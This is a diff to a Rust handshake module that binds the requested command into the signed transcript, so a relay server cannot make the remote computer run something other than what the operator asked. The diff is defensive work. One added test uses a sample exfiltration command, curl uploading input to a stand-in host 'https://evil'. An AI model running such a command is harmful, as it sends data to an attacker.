@@ -5,8 +5,9 @@
 //!    with the offer.
 //! 2. When the agent opens the allowed session, its first frame is a
 //!    [`ComputerReply`]: an ephemeral key of its own, its identity, and
-//!    its identity's signature over the transcript: the request's id and
-//!    the three public keys.
+//!    its identity's signature over the transcript: the request's id, what
+//!    the session runs (its service: the command, the targets, the copy),
+//!    and the three public keys.
 //! 3. `connect` checks the signature with the identity it knows for the
 //!    computer (or learns it, on first use), and both derive the
 //!    session's keys from the two ephemeral keys, salted with the
@@ -14,7 +15,10 @@
 //!
 //! A server that swaps either ephemeral key for its own cannot sign the
 //! transcript that results, so `connect` refuses it; it cannot replay an
-//! old reply either, since each hello is new. The keys die with the
+//! old reply either, since each hello is new; and it cannot have the
+//! computer run something else than what the operator asked (another
+//! command fed the operator's input), since the computer signs what it
+//! runs and `connect` checks it against its ask. The keys die with the
 //! session (forward secrecy): the identity only signs.
 
 use crate::identity::{Identity, PUBLIC_LEN, PublicIdentity};
@@ -125,6 +129,7 @@ impl Initiator {
     pub fn finish(
         self,
         request_id: &str,
+        service: &[u8],
         reply: &ComputerReply,
     ) -> Result<(PublicIdentity, SessionKeys), HandshakeError> {
         if reply.version != VERSION {
@@ -136,7 +141,7 @@ impl Initiator {
         let signature = STANDARD
             .decode(&reply.signature)
             .map_err(|_| HandshakeError::Malformed("signature"))?;
-        let transcript = transcript(request_id, &self.public, &theirs, &identity)?;
+        let transcript = transcript(request_id, service, &self.public, &theirs, &identity)?;
         if !identity.verify(&signed(&transcript), &signature) {
             return Err(HandshakeError::Unproven);
         }
@@ -145,11 +150,13 @@ impl Initiator {
     }
 }
 
-/// The computer's half: answers `hello` for the request `request_id`
-/// with `identity`, and derives the session's keys.
+/// The computer's half: answers `hello` for the request `request_id`,
+/// which runs `service` (its wire form, as the operator sent it), with
+/// `identity`, and derives the session's keys.
 pub fn respond(
     identity: &Identity,
     request_id: &str,
+    service: &[u8],
     hello: &OperatorHello,
 ) -> Result<(ComputerReply, SessionKeys), HandshakeError> {
     if hello.version != VERSION {
@@ -160,7 +167,7 @@ pub fn respond(
         .map_err(|_| HandshakeError::KeyExchange)?;
     let ours = public_of(&private)?;
     let public = identity.public();
-    let transcript = transcript(request_id, &theirs, &ours, &public)?;
+    let transcript = transcript(request_id, service, &theirs, &ours, &public)?;
     let signature = identity.sign(&signed(&transcript));
     let keys = derive(private, &theirs, &transcript, Role::Computer)?;
     let reply = ComputerReply {
@@ -204,10 +211,12 @@ fn key_of(text: &str, what: &'static str) -> Result<[u8; PUBLIC_LEN], HandshakeE
         .ok_or(HandshakeError::Malformed(what))
 }
 
-/// SHA-256 of the request id and the three public keys, each in a fixed
-/// place (the id length-prefixed), so that no two transcripts read alike.
+/// SHA-256 of the request id, the service's digest and the three public
+/// keys, each in a fixed place (the id length-prefixed), so that no two
+/// transcripts read alike.
 fn transcript(
     request_id: &str,
+    service: &[u8],
     operator: &[u8; PUBLIC_LEN],
     computer: &[u8; PUBLIC_LEN],
     identity: &PublicIdentity,
@@ -220,6 +229,7 @@ fn transcript(
     // At most MAX_REQUEST_ID: one byte holds it.
     context.update(&[u8::try_from(request_id.len()).unwrap_or(u8::MAX)]);
     context.update(request_id.as_bytes());
+    context.update(digest::digest(&digest::SHA256, service).as_ref());
     context.update(operator);
     context.update(computer);
     context.update(identity.as_bytes());
@@ -281,17 +291,19 @@ fn derive(
 mod tests {
     use super::*;
 
+    const SERVICE: &[u8] = br#"{"kind":"command","argv":["ls"]}"#;
+
     fn exchange(request_id: &str) -> (Identity, ComputerReply, SessionKeys, Initiator) {
         let identity = Identity::generate().unwrap();
         let (initiator, hello) = Initiator::start().unwrap();
-        let (reply, computer) = respond(&identity, request_id, &hello).unwrap();
+        let (reply, computer) = respond(&identity, request_id, SERVICE, &hello).unwrap();
         (identity, reply, computer, initiator)
     }
 
     #[test]
     fn both_ends_derive_keys_that_open_each_others_frames() {
         let (identity, reply, mut computer, initiator) = exchange("r1");
-        let (signer, mut operator) = initiator.finish("r1", &reply).unwrap();
+        let (signer, mut operator) = initiator.finish("r1", SERVICE, &reply).unwrap();
         assert_eq!(signer, identity.public());
         let sealed = operator.sealer.seal(b"ls -l").unwrap();
         assert_eq!(computer.opener.open(&sealed).unwrap(), b"ls -l");
@@ -302,11 +314,25 @@ mod tests {
         assert!(operator.opener.open(&own).is_err());
     }
 
+    /// A server that has the computer run something else than what the
+    /// operator asked is caught.
+    #[test]
+    fn a_reply_for_another_service_is_unproven() {
+        let identity = Identity::generate().unwrap();
+        let (initiator, hello) = Initiator::start().unwrap();
+        let other = br#"{"kind":"command","argv":["curl","-T","-","https://evil"]}"#;
+        let (reply, _) = respond(&identity, "r1", other, &hello).unwrap();
+        assert_eq!(
+            initiator.finish("r1", SERVICE, &reply).unwrap_err(),
+            HandshakeError::Unproven
+        );
+    }
+
     #[test]
     fn a_reply_for_another_request_is_unproven() {
         let (_, reply, _, initiator) = exchange("r1");
         assert_eq!(
-            initiator.finish("r2", &reply).unwrap_err(),
+            initiator.finish("r2", SERVICE, &reply).unwrap_err(),
             HandshakeError::Unproven
         );
     }
@@ -319,21 +345,24 @@ mod tests {
         let (initiator, hello) = Initiator::start().unwrap();
         // The server makes its own hello for the computer …
         let (_server_side, server_hello) = Initiator::start().unwrap();
-        let (computer_reply, _) = respond(&identity, "r1", &server_hello).unwrap();
+        let (computer_reply, _) = respond(&identity, "r1", SERVICE, &server_hello).unwrap();
         // … and its own reply for the operator, with the computer's identity.
-        let (server_reply, _) = respond(&Identity::generate().unwrap(), "r1", &hello).unwrap();
+        let (server_reply, _) =
+            respond(&Identity::generate().unwrap(), "r1", SERVICE, &hello).unwrap();
         let forged = ComputerReply {
             identity: computer_reply.identity.clone(),
             ..server_reply
         };
         assert_eq!(
-            initiator.finish("r1", &forged).unwrap_err(),
+            initiator.finish("r1", SERVICE, &forged).unwrap_err(),
             HandshakeError::Unproven
         );
         // Nor does the computer's own reply, made for the server's key, hold.
         let (initiator, _) = Initiator::start().unwrap();
         assert_eq!(
-            initiator.finish("r1", &computer_reply).unwrap_err(),
+            initiator
+                .finish("r1", SERVICE, &computer_reply)
+                .unwrap_err(),
             HandshakeError::Unproven
         );
     }
@@ -346,7 +375,7 @@ mod tests {
             ..reply.clone()
         };
         assert_eq!(
-            initiator.finish("r1", &bad).unwrap_err(),
+            initiator.finish("r1", SERVICE, &bad).unwrap_err(),
             HandshakeError::Malformed("ephemeral")
         );
         let (_, _, _, initiator) = exchange("r1");
@@ -355,7 +384,7 @@ mod tests {
             ..reply
         };
         assert_eq!(
-            initiator.finish("r1", &newer).unwrap_err(),
+            initiator.finish("r1", SERVICE, &newer).unwrap_err(),
             HandshakeError::Version(2)
         );
         let hello = OperatorHello {
